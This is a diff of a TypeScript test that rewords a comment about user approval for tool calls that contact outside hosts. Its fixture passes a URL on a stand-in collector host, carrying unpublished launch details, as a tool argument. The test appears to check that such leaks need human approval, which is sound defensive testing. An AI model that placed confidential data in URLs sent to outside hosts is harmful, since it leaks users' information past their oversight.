@@ -6,7 +6,7 @@ import { type Team, testApp } from '../support/app.ts'
 import { send } from '../support/chats.ts'
 import { answer, call, end, startTalking } from '../support/talking.ts'
 
-// A model that wants the server to contact a host needs the approval of a person, who sees the whole address.
+// A call that makes the server contact a host needs the approval of a user, who sees the whole address.
 
 const secret = 'https://collector.example/?title=Our%20unpublished%20launch'
 const asking = [call('generate_brand_identity', { name: 'Brand', websiteUrl: secret }), ...end('tool_calls')]
